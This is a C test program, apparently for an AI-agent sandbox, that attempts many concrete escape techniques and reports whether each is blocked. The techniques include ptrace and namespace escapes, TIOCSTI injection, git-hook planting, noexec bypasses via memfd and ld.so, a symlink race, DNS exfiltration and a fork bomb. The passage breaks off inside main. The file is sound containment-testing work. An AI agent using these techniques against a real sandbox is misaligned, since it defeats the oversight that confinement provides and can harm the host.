// Escape probes: one multi-call binary, `escape <attack> [args...]`. Each attack is tried
// for real from inside the sandbox and ends with exactly one verdict line on stdout:
//
//   VERDICT <attack> BLOCKED errno=<NAME>      the kernel refused the step that mattered
//   VERDICT <attack> BLOCKED signal=<NAME>     the attacking process was killed (checked from a parent)
//   VERDICT <attack> BLOCKED <detail>          blocked in another observable way (detail says how)
//   VERDICT <attack> ESCAPED <detail>          the attack worked: a finding
//   VERDICT <attack> OK <detail>               allowed work succeeded
//   VERDICT <attack> FAIL <detail>             allowed work failed
//   VERDICT <attack> SKIP <reason>             the attack cannot be tried on this machine
//
// The Swift tests in Tests/WardenCLITests/EscapeProbeTests.swift parse these lines.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/rtnetlink.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#ifndef SYS_clone3
#define SYS_clone3 435
#endif
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#endif

static const char *attack;

static int verdict(const char *what, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static int verdict(const char *what, const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    printf("VERDICT %s %s ", attack, what);
    vprintf(fmt, ap);
    printf("\n");
    va_end(ap);
    fflush(stdout);
    return 0;
}

static const char *ename(int e) {
    const char *n = strerrorname_np(e);
    return n ? n : "UNKNOWN";
}

/// The common shape: `rc < 0` is blocked (with errno), anything else escaped.
static int expect_fail(long rc, const char *detail) {
    if (rc < 0) return verdict("BLOCKED", "errno=%s", ename(errno));
    return verdict("ESCAPED", "%s returned %ld", detail, rc);
}

/// Runs `fn` in a child and reports how the child ended: killed by a signal is BLOCKED,
/// a normal exit means the attack ran (the child prints what it saw on stderr).
static int in_child(void (*fn)(void)) {
    fflush(stdout);
    pid_t pid = fork();
    if (pid < 0) return verdict("FAIL", "fork errno=%s", ename(errno));
    if (pid == 0) { fn(); _exit(0); }
    int st = 0;
    if (waitpid(pid, &st, 0) < 0) return verdict("FAIL", "waitpid errno=%s", ename(errno));
    if (WIFSIGNALED(st)) return verdict("BLOCKED", "signal=%s", sigabbrev_np(WTERMSIG(st)) ? sigabbrev_np(WTERMSIG(st)) : "?");
    return verdict("ESCAPED", "child exited with %d", WEXITSTATUS(st));
}

static int read_path(const char *path) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf);
    int saved = errno;
    close(fd);
    errno = saved;
    return (int)n;
}

/// Reading a secret: open failing is BLOCKED; reading zero bytes (a masked file) is too.
static int expect_unreadable(const char *path) {
    int n = read_path(path);
    if (n < 0) return verdict("BLOCKED", "errno=%s", ename(errno));
    if (n == 0) return verdict("BLOCKED", "empty");
    return verdict("ESCAPED", "read %d bytes of %s", n, path);
}

static int write_path(const char *path, int flags) {
    int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC | flags, 0755);
    if (fd < 0) return -1;
    ssize_t n = write(fd, "#!/bin/sh\necho pwned\n", 21);
    int saved = errno;
    close(fd);
    errno = saved;
    return (int)n;
}

static int expect_unwritable(const char *path, int flags) {
    int n = write_path(path, flags);
    if (n < 0) return verdict("BLOCKED", "errno=%s", ename(errno));
    return verdict("ESCAPED", "wrote %d bytes to %s", n, path);
}

// ---------------------------------------------------------------- syscall-level attacks

static void x32_getpid(void) {
    long rc;
    __asm__ volatile("syscall" : "=a"(rc) : "a"(39L | 0x40000000L) : "rcx", "r11", "memory");
    fprintf(stderr, "x32 getpid returned %ld\n", rc);
}

static void i386_getpid(void) {
    long rc;
    __asm__ volatile("int $0x80" : "=a"(rc) : "a"(20L) : "memory");
    fprintf(stderr, "int 0x80 getpid returned %ld\n", rc);
}

static void i386_socketcall(void) {
    // socketcall(SYS_SOCKET, {AF_INET, SOCK_STREAM, 0}) through the i386 entry point.
    static unsigned int args[3] = { AF_INET, SOCK_STREAM, 0 };
    long rc;
    __asm__ volatile("int $0x80" : "=a"(rc) : "a"(102L), "b"(1L), "c"((long)(uintptr_t)args) : "memory");
    fprintf(stderr, "socketcall returned %ld\n", rc);
}

static void *thread_main(void *arg) { return arg; }

static int tty_fd(void) {
    int fd = posix_openpt(O_RDWR | O_NOCTTY);
    if (fd >= 0) { grantpt(fd); unlockpt(fd); return fd; }
    return 0;
}

/// ioctl with `request`: EPERM means the filter refused; ENOTTY/EINVAL mean the request
/// reached the kernel (the filter missed it), success means injection worked.
static int terminal_ioctl(unsigned long request) {
    int fd = tty_fd();
    char c = 'x';
    char linux_arg[2] = { 12, 0 }; // TIOCLINUX subcode 12: get shift state (harmless)
    void *arg = ((unsigned int)request == TIOCLINUX) ? (void *)linux_arg : (void *)&c;
    long rc = syscall(SYS_ioctl, fd, request, arg);
    if (rc < 0 && errno == EPERM) return verdict("BLOCKED", "errno=EPERM");
    if (rc < 0) return verdict("ESCAPED", "ioctl reached the kernel (errno=%s on fd %s)", ename(errno), fd ? "pty" : "0");
    return verdict("ESCAPED", "ioctl succeeded");
}

/// The guard denies two requests, not the terminal: ordinary ioctls on a terminal (a new
/// pty, else standard input when it is one) still work, among them TIOCSTI's and
/// TIOCLINUX's neighbours (TIOCOUTQ 0x5411, TIOCGWINSZ 0x5413, FIONREAD 0x541B) and FIONREAD
/// with garbage in the upper 32 bits of the request.
static int tty_ioctls(void) {
    int fd = tty_fd();
    if (fd == 0 && !isatty(0)) return verdict("FAIL", "no terminal: no pty and standard input is not one");
    int n = 0;
    struct termios t;
    struct winsize w;
    struct { const char *name; unsigned long request; void *arg; } calls[] = {
        { "FIONREAD", FIONREAD, &n }, { "TCGETS", TCGETS, &t }, { "TIOCOUTQ", TIOCOUTQ, &n },
        { "TIOCGWINSZ", TIOCGWINSZ, &w }, { "FIONREAD-upper", 0xdeadbeef00000000UL | FIONREAD, &n },
    };
    for (size_t i = 0; i < sizeof calls / sizeof calls[0]; i++) {
        if (syscall(SYS_ioctl, fd, calls[i].request, calls[i].arg) < 0)
            return verdict("FAIL", "%s: errno=%s", calls[i].name, ename(errno));
    }
    return verdict("OK", "FIONREAD TCGETS TIOCOUTQ TIOCGWINSZ FIONREAD-upper on %s", fd ? "a new pty" : "standard input");
}

static int attack_ptrace_sibling(void) {
    pid_t child = fork();
    if (child == 0) { pause(); _exit(0); }
    long rc = ptrace(PTRACE_ATTACH, child, 0, 0);
    int saved = errno;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    errno = saved;
    return expect_fail(rc, "ptrace(PTRACE_ATTACH, sibling)");
}

static int attack_process_vm_readv(void) {
    char buf[16];
    struct iovec local = { buf, sizeof buf };
    struct iovec remote = { (void *)0x400000, sizeof buf };
    long rc = process_vm_readv(1, &local, 1, &remote, 1, 0);
    if (rc < 0 && errno == EFAULT) return verdict("ESCAPED", "process_vm_readv reached PID 1 (EFAULT on the guessed address)");
    return expect_fail(rc, "process_vm_readv(1)");
}

static int attack_pidfd_getfd(void) {
    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
    if (pidfd < 0) return verdict("BLOCKED", "errno=%s (pidfd_open)", ename(errno));
    long rc = syscall(SYS_pidfd_getfd, pidfd, 0, 0);
    return expect_fail(rc, "pidfd_getfd(init, 0)");
}

static int attack_kill_all(void) {
    long rc = kill(-1, SIGKILL);
    // Nothing outside the PID namespace can be reached; the test checks its sentinel.
    return verdict("BLOCKED", "kill(-1)=%ld errno=%s (contained by the PID namespace)", rc, rc < 0 ? ename(errno) : "none");
}

static int attack_signal_pid(const char *pid) {
    return expect_fail(kill(atoi(pid), SIGTERM), "kill(outside pid, SIGTERM)");
}

static int attack_setns(void) {
    int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (fd < 0) fd = open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
    if (fd < 0) return verdict("BLOCKED", "errno=%s (open ns)", ename(errno));
    return expect_fail(setns(fd, 0), "setns");
}

static int attack_pivot_root(void) {
    mkdir("old", 0700);
    return expect_fail(syscall(SYS_pivot_root, ".", "old"), "pivot_root");
}

static int attack_bpf(void) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    return expect_fail(syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr), "bpf(BPF_MAP_CREATE)");
}

static int attack_perf(void) {
    struct perf_event_attr pe;
    memset(&pe, 0, sizeof pe);
    pe.type = PERF_TYPE_SOFTWARE;
    pe.size = sizeof pe;
    pe.config = PERF_COUNT_SW_CPU_CLOCK;
    pe.disabled = 1;
    return expect_fail(syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0), "perf_event_open");
}

static int attack_open_by_handle(void) {
    // A guessed ext4/xfs/btrfs handle for the root inode: the point is the syscall.
    struct { struct file_handle fh; unsigned char bytes[16]; } h;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1;
    unsigned int ino = 2;
    memcpy(h.fh.f_handle, &ino, sizeof ino);
    return expect_fail(open_by_handle_at(AT_FDCWD, &h.fh, O_RDONLY), "open_by_handle_at");
}

static int attack_name_to_handle(void) {
    struct { struct file_handle fh; unsigned char bytes[128]; } h;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = 128;
    int mount_id = 0;
    return expect_fail(name_to_handle_at(AT_FDCWD, "/", &h.fh, &mount_id, 0), "name_to_handle_at");
}

// ---------------------------------------------------------------- filesystem attacks

static int attack_git_rename(void) {
    // Move the protected tree away, then recreate it to plant a hook.
    if (rename(".git", ".g") < 0) return verdict("BLOCKED", "errno=%s (rename .git)", ename(errno));
    mkdir(".git", 0755);
    mkdir(".git/hooks", 0755);
    int n = write_path(".git/hooks/pre-commit", O_TRUNC);
    if (n < 0) return verdict("BLOCKED", "errno=%s (write recreated hook)", ename(errno));
    return verdict("ESCAPED", "renamed .git and planted .git/hooks/pre-commit");
}

static int attack_git_hooks_rename(void) {
    // Move only the protected directory itself away.
    if (rename(".git/hooks", ".git/h") < 0) return verdict("BLOCKED", "errno=%s (rename .git/hooks)", ename(errno));
    mkdir(".git/hooks", 0755);
    int n = write_path(".git/hooks/pre-commit", O_TRUNC);
    if (n < 0) return verdict("BLOCKED", "errno=%s (write recreated hook)", ename(errno));
    return verdict("ESCAPED", "renamed .git/hooks and planted a hook");
}

static int attack_git_unlink_config(void) {
    // Replace the protected file instead of writing it.
    if (unlink(".git/config") < 0 && rename(".git/config", ".git/config.old") < 0)
        return verdict("BLOCKED", "errno=%s (unlink/rename .git/config)", ename(errno));
    int n = write_path(".git/config", O_TRUNC);
    if (n < 0) return verdict("BLOCKED", "errno=%s (recreate .git/config)", ename(errno));
    return verdict("ESCAPED", "replaced .git/config");
}

static int attack_symlink(const char *target) {
    unlink("link-to-secret");
    if (symlink(target, "link-to-secret") < 0) return verdict("FAIL", "symlink errno=%s", ename(errno));
    return expect_unreadable("link-to-secret");
}

static int attack_hardlink(const char *target) {
    unlink("hardlink");
    if (link(target, "hardlink") < 0) return verdict("BLOCKED", "errno=%s", ename(errno));
    return expect_unwritable("hardlink", O_APPEND);
}

static int attack_rename_out(const char *outside_dir) {
    // Plant a file inside, then move it out of the workspace.
    write_path("planted", O_TRUNC);
    char dst[4096];
    snprintf(dst, sizeof dst, "%s/planted", outside_dir);
    return expect_fail(rename("planted", dst), "rename(workspace file, outside)");
}

static int attack_rename_in(const char *outside_file) {
    return expect_fail(rename(outside_file, "stolen"), "rename(outside file, workspace)");
}

static int attack_memfd_exec(void) {
    // Copy our own binary into a memfd and execute it: the copy must stay confined.
    int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (src < 0) return verdict("FAIL", "open /proc/self/exe errno=%s", ename(errno));
    int mfd = memfd_create("copy", MFD_CLOEXEC);
    if (mfd < 0) return verdict("BLOCKED", "errno=%s (memfd_create)", ename(errno));
    char buf[65536];
    ssize_t n;
    while ((n = read(src, buf, sizeof buf)) > 0) {
        if (write(mfd, buf, (size_t)n) != n) return verdict("FAIL", "write memfd errno=%s", ename(errno));
    }
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        char *argv[] = { "escape", "bpf", NULL };
        char *envp[] = { NULL };
        fexecve(mfd, argv, envp);
        printf("VERDICT memfd-exec BLOCKED errno=%s\n", ename(errno));
        fflush(stdout);
        _exit(0);
    }
    int st;
    waitpid(pid, &st, 0);
    return 0; // the child printed the verdict (the exec'd copy prints `VERDICT bpf ...`)
}


/// memfd_create with MFD_EXEC: refused when vm.memfd_noexec is 2 in the agent's namespace.
static int attack_memfd_exec_flag(void) {
    int mfd = (int)syscall(SYS_memfd_create, "copy", 0x0001U /* MFD_CLOEXEC */ | 0x0010U /* MFD_EXEC */);
    if (mfd < 0) return verdict("BLOCKED", "errno=%s (memfd_create MFD_EXEC)", ename(errno));
    return verdict("ESCAPED", "an executable memfd");
}

/// execveat on a descriptor of a file copied into a writable, non-executable grant.
static int copy_self(const char *dst);
static int attack_exec_fd(const char *dst) {
    if (copy_self(dst) < 0) return verdict("FAIL", "copy to %s errno=%s", dst, ename(errno));
    int fd = open(dst, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return verdict("FAIL", "open %s errno=%s", dst, ename(errno));
    char *argv[] = { "escape", "whoami", NULL };
    char *envp[] = { NULL };
    syscall(SYS_execveat, fd, "", argv, envp, 0x1000 /* AT_EMPTY_PATH */);
    return verdict("BLOCKED", "errno=%s (execveat)", ename(errno));
}

static int copy_self(const char *dst) {
    int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int out = open(dst, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (src < 0 || out < 0) return -1;
    char buf[65536];
    ssize_t n;
    while ((n = read(src, buf, sizeof buf)) > 0)
        if (write(out, buf, (size_t)n) != n) return -1;
    close(src);
    close(out);
    return 0;
}

static int attack_ldso(const char *binary) {
    // Copy ourselves to `binary` (a directory the policy lets us write but not execute),
    // check that the direct exec is denied, then ask the loader to run it.
    if (copy_self(binary) < 0) return verdict("FAIL", "copy to %s errno=%s", binary, ename(errno));
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        execl(binary, binary, "whoami", (char *)NULL);
        _exit(errno == EACCES ? 41 : 42);
    }
    int st;
    waitpid(pid, &st, 0);
    if (!WIFEXITED(st) || WEXITSTATUS(st) != 41) return verdict("FAIL", "direct exec of %s was not denied with EACCES (status %d)", binary, st);
    pid = fork();
    if (pid == 0) {
        execl("/lib64/ld-linux-x86-64.so.2", "ld.so", binary, "bpf", (char *)NULL);
        printf("VERDICT ldso BLOCKED errno=%s\n", ename(errno));
        _exit(0);
    }
    waitpid(pid, &st, 0);
    // The loaded copy prints `VERDICT bpf ...` and exits 0 if the loader ran it; the loader
    // itself exits 127 when it cannot map the file (a noexec mount).
    if (WIFEXITED(st) && WEXITSTATUS(st) != 0) return verdict("BLOCKED", "loader-exit=%d", WEXITSTATUS(st));
    return 0;
}

static int attack_fds(void) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) return verdict("FAIL", "opendir errno=%s", ename(errno));
    char extra[512] = "";
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        int fd = atoi(e->d_name);
        if (fd <= 2 || fd == dirfd(d)) continue;
        strncat(extra, e->d_name, sizeof extra - strlen(extra) - 2);
        strcat(extra, ",");
    }
    closedir(d);
    if (extra[0]) return verdict("ESCAPED", "inherited fds %s", extra);
    return verdict("BLOCKED", "only-0-2");
}

static int attack_unix(const char *name, int abstract) {
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) return verdict("BLOCKED", "errno=%s (socket)", ename(errno));
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    socklen_t len;
    if (abstract) {
        strncpy(a.sun_path + 1, name, sizeof a.sun_path - 2);
        len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
    } else {
        strncpy(a.sun_path, name, sizeof a.sun_path - 1);
        len = sizeof a;
    }
    return expect_fail(connect(s, (struct sockaddr *)&a, len), "connect(unix)");
}


/// The confused-deputy race: one thread connects to (or binds) ./race.sock while another
/// swaps it, thousands of times, with a symlink to `target` (a host socket outside the
/// agent's world) by rename exchange, and swaps the thread's working directory. Whoever
/// resolves the path must do it in the agent's world: no connect may ever succeed.
static volatile int race_stop;
static void *race_swapper(void *unused) {
    (void)unused;
    while (!race_stop) {
        syscall(SYS_renameat2, AT_FDCWD, "race.sock", AT_FDCWD, "race.link", 2 /* RENAME_EXCHANGE */);
        syscall(SYS_renameat2, AT_FDCWD, "race.dir", AT_FDCWD, "race.dirlink", 2);
    }
    return NULL;
}
static int attack_unix_race(const char *target, const char *count) {
    int n = *count ? atoi(count) : 2000;
    unlink("race.sock"); unlink("race.link"); unlink("race.dirlink");
    int f = open("race.sock", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    if (f >= 0) close(f);
    if (symlink(target, "race.link") < 0) return verdict("BLOCKED", "errno=%s (symlink)", ename(errno));
    char dir[4096];
    snprintf(dir, sizeof dir, "%s", target);
    char *slash = strrchr(dir, '/');
    if (slash) *slash = 0;
    mkdir("race.dir", 0700);
    if (symlink(dir, "race.dirlink") < 0) return verdict("BLOCKED", "errno=%s (symlink dir)", ename(errno));
    const char *base = slash ? target + (slash - dir) + 1 : target;
    pthread_t t;
    pthread_create(&t, NULL, race_swapper, NULL);
    int connected = 0, bound = 0;
    for (int i = 0; i < n; i++) {
        struct sockaddr_un a;
        memset(&a, 0, sizeof a);
        a.sun_family = AF_UNIX;
        if (i % 2) snprintf(a.sun_path, sizeof a.sun_path, "race.sock");
        else snprintf(a.sun_path, sizeof a.sun_path, "race.dir/%s", base);
        int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (s < 0) continue;
        if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) connected++;
        close(s);
        if (i % 64 == 0) {
            // A bind through the swapped directory must not create a socket in the host's directory.
            s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
            snprintf(a.sun_path, sizeof a.sun_path, "race.dir/planted-%d", i);
            if (s >= 0 && bind(s, (struct sockaddr *)&a, sizeof a) == 0 && access(dir, F_OK) == 0) bound++;
            if (s >= 0) close(s);
        }
    }
    race_stop = 1;
    pthread_join(t, NULL);
    if (connected) return verdict("ESCAPED", "connected %d times", connected);
    return verdict("BLOCKED", "connects=0 tries=%d", n);
}

static int attack_tcp(const char *port) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) return verdict("BLOCKED", "errno=%s (socket)", ename(errno));
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return expect_fail(connect(s, (struct sockaddr *)&a, sizeof a), "connect(127.0.0.1)");
}

static int attack_tcp6_mapped(const char *port) {
    int s = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) return verdict("BLOCKED", "errno=%s (socket)", ename(errno));
    struct sockaddr_in6 a = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)atoi(port)) };
    inet_pton(AF_INET6, "::ffff:127.0.0.1", &a.sin6_addr);
    return expect_fail(connect(s, (struct sockaddr *)&a, sizeof a), "connect(::ffff:127.0.0.1)");
}

static int attack_dns(void) {
    // A DNS query (the exfiltration channel: the name carries the data) to the host's
    // resolver, or 8.8.8.8 when resolv.conf names none.
    char server[64] = "8.8.8.8", line[256];
    FILE *f = fopen("/etc/resolv.conf", "r");
    while (f && fgets(line, sizeof line, f)) {
        if (sscanf(line, "nameserver %63s", server) == 1 && strchr(server, '.')) break;
    }
    if (f) fclose(f);
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (s < 0) return verdict("BLOCKED", "errno=%s (socket)", ename(errno));
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(53) };
    if (inet_pton(AF_INET, server, &a.sin_addr) != 1) inet_pton(AF_INET, "8.8.8.8", &a.sin_addr);
    static const unsigned char query[] = { 0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0,
        6, 's', 'e', 'c', 'r', 'e', 't', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 0, 0, 1, 0, 1 };
    return expect_fail(sendto(s, query, sizeof query, 0, (struct sockaddr *)&a, sizeof a), "sendto(resolver:53)");
}

static int attack_netlink(void) {
    int s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    if (s < 0) return verdict("BLOCKED", "errno=%s (socket)", ename(errno));
    // RTM_NEWLINK: bring lo up (needs CAP_NET_ADMIN in the namespace's owner).
    struct { struct nlmsghdr h; struct ifinfomsg i; } req;
    memset(&req, 0, sizeof req);
    req.h.nlmsg_len = sizeof req;
    req.h.nlmsg_type = RTM_NEWLINK;
    req.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
    req.i.ifi_family = AF_UNSPEC;
    req.i.ifi_index = 1;
    req.i.ifi_flags = IFF_UP;
    req.i.ifi_change = IFF_UP;
    if (send(s, &req, sizeof req, 0) < 0) return verdict("BLOCKED", "errno=%s (send)", ename(errno));
    char buf[4096];
    ssize_t n = recv(s, buf, sizeof buf, 0);
    if (n < (ssize_t)sizeof(struct nlmsghdr)) return verdict("FAIL", "no netlink answer");
    struct nlmsghdr *h = (struct nlmsghdr *)buf;
    if (h->nlmsg_type == NLMSG_ERROR) {
        struct nlmsgerr *e = NLMSG_DATA(h);
        if (e->error < 0) return verdict("BLOCKED", "errno=%s (netlink ack)", ename(-e->error));
    }
    return verdict("ESCAPED", "RTM_NEWLINK accepted");
}

static int attack_setuid(const char *binary) {
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        execl(binary, binary, "ids", (char *)NULL);
        printf("VERDICT setuid BLOCKED errno=%s (exec)\n", ename(errno));
        _exit(0);
    }
    int st;
    waitpid(pid, &st, 0);
    return 0; // the setuid copy prints its verdict
}

static int report_ids(void) {
    // Run as the setuid copy: escaped when euid changed or any capability arrived.
    uid_t r, e, s;
    getresuid(&r, &e, &s);
    char line[256], eff[32] = "?", prm[32] = "?";
    FILE *f = fopen("/proc/self/status", "r");
    while (f && fgets(line, sizeof line, f)) {
        sscanf(line, "CapEff:\t%31s", eff);
        sscanf(line, "CapPrm:\t%31s", prm);
    }
    if (f) fclose(f);
    attack = "setuid";
    if (e != r || s != r || strcmp(eff, "0000000000000000") || strcmp(prm, "0000000000000000"))
        return verdict("ESCAPED", "uid=%u euid=%u suid=%u CapEff=%s CapPrm=%s", r, e, s, eff, prm);
    return verdict("BLOCKED", "euid=%u CapEff=%s", e, eff);
}

static int attack_bind80(void) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) return verdict("BLOCKED", "errno=%s (socket)", ename(errno));
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(80) };
    return expect_fail(bind(s, (struct sockaddr *)&a, sizeof a), "bind(:80)");
}

static int attack_rlimit(void) {
    struct rlimit rl;
    getrlimit(RLIMIT_NOFILE, &rl);
    if (rl.rlim_max == RLIM_INFINITY) return verdict("SKIP", "no hard limit on open files");
    rl.rlim_max += 1;
    rl.rlim_cur = rl.rlim_max;
    return expect_fail(setrlimit(RLIMIT_NOFILE, &rl), "setrlimit(RLIMIT_NOFILE, hard+1)");
}

static int attack_fork_bomb(int cap) {
    // Fork until refused (or `cap` children, so a missing limit cannot take the machine
    // down); every child pauses until the final kill(0, SIGKILL).
    int made = 0;
    for (int i = 0; i < cap; i++) {
        pid_t p = fork();
        if (p < 0) {
            int e = errno;
            printf("VERDICT fork-bomb BLOCKED errno=%s after=%d\n", ename(e), made);
            fflush(stdout);
            kill(0, SIGKILL);
            return 0;
        }
        if (p == 0) { pause(); _exit(0); }
        made++;
    }
    verdict("ESCAPED", "forked %d processes", made);
    kill(0, SIGKILL);
    return 0;
}

// ---------------------------------------------------------------- allowed work

static int allowed_threads(void) {
    pthread_t t[8];
    for (int i = 0; i < 8; i++)
        if (pthread_create(&t[i], NULL, thread_main, NULL) != 0) return verdict("FAIL", "pthread_create");
    for (int i = 0; i < 8; i++) pthread_join(t[i], NULL);
    return verdict("OK", "8 threads");
}

static int allowed_children_and_pipes(void) {
    int p[2];
    if (pipe(p) < 0) return verdict("FAIL", "pipe errno=%s", ename(errno));
    pid_t pid = fork();
    if (pid < 0) return verdict("FAIL", "fork errno=%s", ename(errno));
    if (pid == 0) {
        dup2(p[1], 1);
        close(p[0]);
        execl("/bin/echo", "echo", "through-a-pipe", (char *)NULL);
        _exit(127);
    }
    close(p[1]);
    char buf[64] = "";
    ssize_t n = read(p[0], buf, sizeof buf - 1);
    int st;
    waitpid(pid, &st, 0);
    if (n > 0 && strstr(buf, "through-a-pipe") && WIFEXITED(st) && WEXITSTATUS(st) == 0) return verdict("OK", "child+pipe");
    return verdict("FAIL", "child status %d read %zd", st, n);
}

static int allowed_toolchain(void) {
    int n = read_path("/usr/bin/cc");
    if (n <= 0) n = read_path("/bin/sh");
    if (n <= 0) return verdict("FAIL", "cannot read the toolchain errno=%s", ename(errno));
    return verdict("OK", "read %d bytes", n);
}

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: escape <attack> [args]\n"); return 2; }
    attack = argv[1];
    const char *a = attack;
    const char *arg = argc > 2 ? argv[2] : "";

    if (!strcmp(a, "io_uring")) {
        struct io_uring_params p;
        memset(&p, 0, sizeof p);
        return expect_fail(syscall(SYS_io_uring_setup, 8, &p), "io_uring_setup");
    }
    if (!strcmp(a, "x32")) return in_child(x32_getpid);
    if (!strcmp(a, "int80")) return in_child(i386_getpid);
    if (!strcmp(a, "socketcall")) return in_child(i386_socketcall);
    if (!strcmp(a, "clone3")) {
        long rc = syscall(SYS_clone3, NULL, 0);
        if (rc < 0 && errno == ENOSYS) {
            pthread_t t;
            if (pthread_create(&t, NULL, thread_main, NULL) != 0) return verdict("FAIL", "pthread_create after clone3 ENOSYS");
            pthread_join(t, NULL);
            return verdict("BLOCKED", "errno=ENOSYS pthread=ok");
        }
        return expect_fail(rc, "clone3");
    }
    if (!strcmp(a, "tiocsti")) return terminal_ioctl(TIOCSTI);
    if (!strcmp(a, "tiocsti-upper")) return terminal_ioctl(0xdeadbeef00000000UL | TIOCSTI);
    if (!strcmp(a, "tioclinux")) return terminal_ioctl(TIOCLINUX);
    if (!strcmp(a, "tty-ioctls")) return tty_ioctls();
    if (!strcmp(a, "ptrace-init")) return expect_fail(ptrace(PTRACE_ATTACH, 1, 0, 0), "ptrace(PTRACE_ATTACH, 1)");
    if (!strcmp(a, "ptrace-sibling")) return attack_ptrace_sibling();
    if (!strcmp(a, "process_vm_readv")) return attack_process_vm_readv();
    if (!strcmp(a, "pidfd_getfd")) return attack_pidfd_getfd();
    if (!strcmp(a, "kill-all")) return attack_kill_all();
    if (!strcmp(a, "signal-outside")) return attack_signal_pid(arg);
    if (!strcmp(a, "unshare-user")) return expect_fail(unshare(CLONE_NEWUSER), "unshare(CLONE_NEWUSER)");
    if (!strcmp(a, "clone-newuser")) {
        long rc = syscall(SYS_clone, (unsigned long)(CLONE_NEWUSER | SIGCHLD), NULL, NULL, NULL, 0);
        if (rc == 0) _exit(0);
        if (rc > 0) waitpid((pid_t)rc, NULL, 0);
        return expect_fail(rc, "clone(CLONE_NEWUSER)");
    }
    if (!strcmp(a, "setns")) return attack_setns();
    if (!strcmp(a, "mount")) return expect_fail(mount("tmpfs", ".", "tmpfs", 0, NULL), "mount(tmpfs)");
    if (!strcmp(a, "umount-proc")) return expect_fail(umount2("/proc", MNT_DETACH), "umount2(/proc)");
    if (!strcmp(a, "pivot_root")) return attack_pivot_root();
    if (!strcmp(a, "chroot")) return expect_fail(chroot("."), "chroot");
    if (!strcmp(a, "bpf")) return attack_bpf();
    if (!strcmp(a, "perf_event_open")) return attack_perf();
    if (!strcmp(a, "userfaultfd")) return expect_fail(syscall(SYS_userfaultfd, O_CLOEXEC), "userfaultfd");
    if (!strcmp(a, "keyctl")) return expect_fail(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1), "keyctl");
    if (!strcmp(a, "add_key")) return expect_fail(syscall(SYS_add_key, "user", "warden", "x", 1, KEY_SPEC_PROCESS_KEYRING), "add_key");
    if (!strcmp(a, "kexec_load")) return expect_fail(syscall(SYS_kexec_load, 0, 0, NULL, 0), "kexec_load");
    if (!strcmp(a, "init_module")) return expect_fail(syscall(SYS_init_module, "", 0, ""), "init_module");
